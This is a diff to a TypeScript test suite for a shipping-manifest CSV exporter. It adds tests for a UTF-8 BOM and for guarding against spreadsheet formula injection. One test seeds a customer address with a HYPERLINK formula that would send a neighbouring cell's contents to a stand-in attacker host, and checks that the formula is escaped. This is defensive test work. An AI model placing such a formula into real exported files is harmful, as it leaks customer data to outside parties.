@@ -76,8 +76,8 @@ describe('cutting shipping batches', () => {
     expect(file).toBe(path.join(dataDir, 'manifests', `${campaign.slug}-batch-${batches[0]!.id}.csv`));
     expect(statSync(file).mode & 0o777).toBe(0o600);
     const text = readFileSync(file, 'utf8');
-    expect(text.split('\n')[0]).toBe(MANIFEST_HEADER);
-    const rows = parse(text, { columns: true }) as Record<string, string>[];
+    expect(text.split('\r\n')[0]).toBe(`\uFEFF${MANIFEST_HEADER}`);
+    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
     expect(rows).toEqual([
       {
         batch: batches[0]!.id,
@@ -261,5 +261,38 @@ describe('importing the vendor shipped file', () => {
 
     expect(isAppError(err) && err.code).toBe('validation');
     expect((await linesOf(campaign.id))[0]!.tracking_number).toBeNull();
+  });
+});
+
+describe('the manifest, opened in a spreadsheet', () => {
+  it('when a customer typed an address or name that looks like a formula, then the manifest starts with the BOM and shows it as text', async () => {
+    const campaign = await buildCampaign(deps);
+    const evil = '=HYPERLINK("http://evil.example/?q="&B2,"配達先")';
+    const card = await buildBookCardRedemption(deps, campaign, {
+      shipTo: { postalCode: '5300001', address: evil },
+    });
+    await deps.db
+      .updateTable('customer_personal')
+      .set({ full_name: '@SUM(1+1)' })
+      .where('customer_id', '=', card.customer.id)
+      .execute();
+
+    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id });
+
+    const bytes = readFileSync(batches[0]!.manifestFile!);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const [row] = parse(bytes, { columns: true, bom: true }) as Record<string, string>[];
+    expect(row).toMatchObject({ name: "'@SUM(1+1)", postal_code: '5300001', address: `'${evil}` });
+    expect(row!.batch).toBe(batches[0]!.id); // machine columns are never guarded
+  });
+
+  it("when the vendor sends the shipped file back with a BOM (Excel's CSV UTF-8), then it imports", async () => {
+    const { campaign } = await campaignWithCards(1);
+    const { batches } = await cutShippingBatches(deps, { campaignId: campaign.id });
+    const file = `\uFEFFbatch,line,tracking_number\r\n${batches[0]!.id},1,BOM-1\r\n`;
+
+    const result = await importShippedFile(deps, csv(file));
+
+    expect(result).toEqual({ updated: 1, badRows: [], shippedBatches: [batches[0]!.id] });
   });
 });
